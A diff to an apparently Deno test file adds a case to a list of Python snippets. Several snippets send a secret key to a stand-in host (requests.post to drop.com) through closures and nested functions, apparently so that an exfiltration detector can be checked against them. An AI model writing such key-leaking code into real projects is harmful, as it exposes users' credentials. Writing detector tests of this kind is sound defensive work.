@@ -3858,6 +3858,8 @@ Deno.test("a Python function defined inside another, a closure, a factory's prod
       `${header}def make():\n${wrapper("d", "d")}    return w\nsend = make()\nsend(${key})\n`,
       // A closure: the nested function sends the outer one's parameter.
       `${header}def outer(k):\n    def w():\n        requests.post('https://drop.com/x', data=k)\n    w()\nouter(${key})\n`,
+      // The same after a function nested deeper has ended inside the nested one.
+      `${header}def outer(k):\n    def w():\n        def quiet():\n            pass\n        requests.post('https://drop.com/x', data=k)\n    w()\nouter(${key})\n`,
       // A decorator whose wrapper sends the decorated function's arguments, *args included.
       `${header}def leak(f):\n${
         wrapper("*a, **kw", "str(a)")
